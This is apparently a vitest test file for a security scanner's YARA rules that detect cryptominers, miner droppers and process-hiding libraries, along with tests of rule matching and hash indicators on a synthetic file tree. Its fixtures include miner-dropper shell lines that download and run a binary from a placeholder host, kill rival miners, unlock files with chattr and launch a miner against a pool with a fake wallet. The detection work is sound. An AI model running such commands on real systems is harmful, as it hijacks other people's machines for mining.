import { createHash } from 'node:crypto';
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RuleMatch, RuleSource } from '../../../src/findings/file-rules.ts';
import { neededWords } from '../../../src/host/rules/needed-words.ts';
import { type RuleThread, startRules } from '../../../src/host/rules/rule-thread.ts';
import { findingOf, makeTree, scanTree, type TreeEntry } from './tree.ts';

const folder = join(import.meta.dirname, '../../../playbooks/rules');
const shipped: RuleSource[] = readdirSync(folder)
  .filter((file) => file.endsWith('.yar'))
  .map((name) => ({ name, text: readFileSync(join(folder, name), 'utf8') }));

const ELF = '\x7fELF\x02\x01\x01\0';
const WALLET = `4A${'DRiLLNotAReaLWaLLet'.padEnd(93, '7')}`;

/** For each rule all that it looks for, in a file of its kind. */
const WHOLE: Readonly<Record<string, string>> = {
  xmrig_program: `${ELF} donate-level max-threads-hint rig-id huge-pages-jit randomx-wrmsr donate-over-proxy cn-heavy/xhv XMRig stratum+tcp://`,
  monero_stratum_client: `${ELF} stratum+tcp:// keepalived job_id seed_hash blob "login" "submit"`,
  bitcoin_stratum_client: `${ELF} mining.subscribe mining.authorize mining.notify mining.submit mining.set_difficulty`,
  randomx_library: `${ELF} randomx_alloc_cache randomx_init_dataset randomx_create_vm randomx_calculate_hash randomx_reciprocal`,
  cpuminer_program: `${ELF} Try \`minerd --help' for more information. Stratum authentication failed accepted: %lu/%lu (%.2f%%), %s khash/s %s Long-polling activated for %s Stratum requested work restart cpuminer`,
  miner_configuration: `{"pools": [{"url": "x", "rig-id": "a"}], "donate-level": 1, "randomx": 1, "max-threads-hint": 1, "nicehash": 1, "huge-pages": 1}`,
  miner_dropper:
    'curl x\nkill xmrig minerd xmr-stak cpuminer\nkill kinsing kdevtmpfsi kthreaddi sysrv1\nkill watchbog\nchattr -i x\nstratum+tcp:// --donate-level rx/0 pool.some.com\n/etc/ld.so.preload\nnohup setsid\n',
  wallet_at_a_pool: ` ${WALLET} stratum+tcp:// "method": "login" donate-level supportxmr.com moneroocean.stream hashvault.pro nanopool.org c3pool.org minexmr.com 2miners.com unmineable.com herominers.com`,
  process_hider_library: `${ELF} /proc/self/fd/%d /proc/%s/stat readdir dlsym %d (%[^)]s`,
};

/** For each rule something harmless that it fits, and a neighbour that it must not. */
const SAMPLES: Readonly<Record<string, { readonly fits: string; readonly not: string }>> = {
  xmrig_program: {
    fits: `${ELF} donate-level max-threads-hint rig-id huge-pages-jit randomx-wrmsr`,
    not: `${ELF} a scanner that looks for donate-level and XMRig`,
  },
  monero_stratum_client: {
    fits: `${ELF} stratum+tcp:// job_id seed_hash keepalived`,
    not: `${ELF} keepalived of the load balancer, job_id of the batch system`,
  },
  bitcoin_stratum_client: {
    fits: `${ELF} mining.subscribe mining.authorize mining.notify mining.submit`,
    not: `${ELF} data mining.submit forms, mining.notify`,
  },
  randomx_library: {
    fits: `${ELF} randomx_alloc_cache randomx_init_dataset randomx_create_vm`,
    not: `${ELF} randomx_create_vm is mentioned`,
  },
  cpuminer_program: {
    fits: `${ELF} Try \`minerd --help' for more information. Stratum authentication failed cpuminer`,
    not: `${ELF} cpuminer is not installed`,
  },
  miner_configuration: {
    fits: `{"pools": [{"url": "203.0.113.9:3333", "rig-id": "a"}], "donate-level": 1}`,
    not: `{"pools": [{"url": "https://images.example"}], "huge-pages": true}`,
  },
  miner_dropper: {
    fits: '#!/bin/sh\npkill -9 xmrig\nps aux | grep kinsing\nchattr -i /etc/x\ncurl -o m http://203.0.113.9/m\nnohup ./m &\n',
    not: '#!/bin/sh\n# clean up\npkill -9 xmrig\npkill kinsing\nrm -f /tmp/kdevtmpfsi\n',
  },
  wallet_at_a_pool: {
    fits: `#!/bin/sh\nexec ./m -o stratum+tcp://203.0.113.9:3333 -u ${WALLET} -p x\n`,
    not: `#!/bin/sh\necho "donate to ${WALLET} "\n`,
  },
  process_hider_library: {
    fits: `${ELF} /proc/self/fd/%d /proc/%s/stat readdir dlsym %d (%[^)]s`,
    not: `${ELF} /proc/self/fd/%d /proc/%s/stat readdir of a process viewer`,
  },
};

let rules: RuleThread;
beforeAll(async () => {
  const started = await startRules(shipped, 60_000);
  if ('failure' in started) throw new Error(started.failure);
  rules = started;
}, 60_000);
afterAll(() => rules.end());

async function names(text: string | Uint8Array): Promise<string[]> {
  const bytes = new Uint8Array(Buffer.from(text as string, 'latin1'));
  const matches = await rules.scan(bytes, 20_000);
  if ('failure' in matches) throw new Error(matches.failure);
  return matches.map((match: RuleMatch) => match.rule);
}

describe('the rules that come with it', () => {
  it('compile, each with a description, a reference and a score', () => {
    expect(rules.faults).toEqual([]);
    for (const { name, text } of shipped) {
      const blocks = text.split(/^rule /m).slice(1);
      expect(blocks.length).toBeGreaterThan(0);
      for (const block of blocks)
        expect(block, name).toMatch(/description = ".+"\s+reference = "https:\/\/.+"\s+score = \d+/);
    }
  });

  it.each(Object.entries(SAMPLES))(
    '%s fits what it is for, and not its neighbour',
    async (rule, { fits, not }) => {
      expect(await names(fits)).toContain(rule);
      expect(await names(not)).toEqual([]);
    },
  );

  // Conditions only ask for more of them: what holds the rest and still does not fit shows that one of the words is needed.
  it.each(Object.entries(WHOLE))(
    '%s fits nothing without the words that it says it needs',
    async (rule, whole) => {
      expect(await names(whole)).toContain(rule);
      const block = shipped
        .flatMap(({ text }) => text.split(/^(?=rule )/m))
        .find((one) => one.startsWith(`rule ${rule}`));
      const words = neededWords([{ name: 'one', text: block ?? '' }]) ?? [];
      expect(words.length).toBeGreaterThan(0);
      for (const word of words) expect(whole).toContain(word.toString());
      const without = words.reduce((text, word) => text.replaceAll(word.toString(), '-'), whole);
      expect(await names(without)).not.toContain(rule);
    },
  );

  it('are known by their words as a whole, and no others are if one does not say', () => {
    const said = 'rule a { meta:\n needs_one_of = "x \\"y\\""\n condition: true }\n';
    expect(neededWords(shipped)?.length).toBeGreaterThan(20);
    expect(neededWords([{ name: 'a', text: said }])?.map(String)).toEqual(['x', '"y"']);
    expect(neededWords([...shipped, { name: 'b', text: 'rule b { condition: true }' }])).toBeNull();
    expect(neededWords([{ name: 'c', text: `${said}private rule c { condition: true }` }])).toBeNull();
    expect(neededWords([{ name: 'd', text: `${said.replace('rule', 'private rule')}` }])).toBeNull();
  });

  it('has a sample for every rule', () => {
    expect(Object.keys(WHOLE)).toEqual(Object.keys(SAMPLES));
    const all = shipped.flatMap(({ text }) => [...text.matchAll(/^rule (\w+)/gm)].map(([, name]) => name));
    expect(Object.keys(SAMPLES).sort()).toEqual(all.sort());
  });

  it('fits nothing of an ordinary system', { timeout: 300_000 }, async () => {
    const hits: string[] = [];
    let seen = 0;
    let left = 64 * 1024 * 1024;
    const folders = ['/usr/bin', '/usr/sbin', '/etc', '/usr/lib'];
    for (let folder = folders.shift(); folder !== undefined && left > 0; folder = folders.shift()) {
      for (const entry of readdirSync(folder, { withFileTypes: true })) {
        const path = join(folder, entry.name);
        if (entry.isDirectory()) folders.push(path);
        // Packages of scanners for miners are what they look for.
        if (!entry.isFile() || /yara|clamav/.test(path)) continue;
        const size = statSync(path).size;
        if (size === 0 || size > 4 * 1024 * 1024 || left < size) continue;
        left -= size;
        seen += 1;
        const matches = await rules.scan(new Uint8Array(readFileSync(path)), 20_000);
        if ('failure' in matches) throw new Error(`${path}: ${matches.failure}`);
        hits.push(...matches.map(({ rule }) => `${path}: ${rule}`));
      }
    }
    expect(hits).toEqual([]);
    expect(seen).toBeGreaterThan(200);
  });
});

describe('a scan with rules', () => {
  const own: RuleSource[] = [
    {
      name: 'campaign.yar',
      text: 'rule seven { meta: description = "the seventh campaign" score = 95 strings: $mark = "HELLO-SEVEN" condition: $mark }\nrule maybe { strings: $m = "PERHAPS-SEVEN" condition: $m }',
    },
  ];
  const hosts: Readonly<Record<string, TreeEntry>> = {
    '/etc/cron.d/report': '15 3 * * * root /usr/local/bin/report\n15 4 * * * root /usr/local/bin/other\n',
    '/usr/local/bin/report': { text: '#!/bin/sh\n: HELLO-SEVEN\n', mode: 0o755 },
    '/usr/local/bin/other': { text: '#!/bin/sh\n: PERHAPS-SEVEN\n', mode: 0o755 },
  };

  it('recognises what only a rule knows, names rule and place, and blames what starts it', async () => {
    const root = makeTree(hosts);
    const before = await scanTree(root);
    expect(findingOf(before, '/usr/local/bin/report')?.verdict).not.toBe('malicious');
    const outcome = await scanTree(root, {}, undefined, { rules: own });
    const file = outcome.findings.find(({ title }) => title === '/usr/local/bin/report');
    expect(file).toMatchObject({ verdict: 'malicious', subject: { kind: 'file', role: 'script' } });
    expect(file?.reasons[0]).toEqual({
      code: 'rule-match',
      text: 'It fits the rule seven of campaign.yar: the seventh campaign ($mark at 0xc)',
      weight: 95,
    });
    expect(findingOf(outcome, '15 3 * * *')?.verdict).toBe('malicious');
  });

  it('is never condemned by a rule alone that does not say what it is worth', async () => {
    const outcome = await scanTree(makeTree(hosts), {}, undefined, { rules: own });
    const file = outcome.findings.find(({ title }) => title === '/usr/local/bin/other');
    expect(file).toMatchObject({ verdict: 'suspicious' });
  });

  it('knows a file by its hash from the responder’s indicators, and says from which file', async () => {
    const text = '#!/bin/sh\nexit 0\n';
    const value = createHash('sha256').update(text).digest('hex');
    const root = makeTree({ ...hosts, '/usr/local/bin/report': { text, mode: 0o755 } });
    const indicators = [
      { name: 'case-12', entries: [{ kind: 'hashes', value, who: 'Twelve', sources: [] } as const] },
    ];
    const outcome = await scanTree(root, {}, undefined, { indicators });
    const file = outcome.findings.find(({ title }) => title === '/usr/local/bin/report');
    expect(file?.verdict).toBe('malicious');
    expect(file?.reasons[0]?.text).toContain('(Twelve; from your file “case-12”)');
  });

  it('lists as unknown what is too large, and what rules that do not compile were not held against', async () => {
    const large = {
      ...hosts,
      '/usr/local/bin/other': { text: `#!/bin/sh\n${'#'.repeat(25 << 20)}`, mode: 0o755 },
    };
    const { unknowns } = await scanTree(makeTree(large), {}, undefined, { rules: own });
    expect(unknowns).toContainEqual({
      scope: 'dropped-files',
      what: 'rules over /usr/local/bin/other',
      reason: 'larger than what is examined by rules',
    });
    const broken = [{ name: 'x.yar', text: 'rule x { condition: nonsense }' }];
    const outcome = await scanTree(makeTree(hosts), {}, undefined, { rules: broken });
    expect(outcome.unknowns.find(({ what }) => what.startsWith('rules over'))?.reason).toContain('nonsense');
  });
});
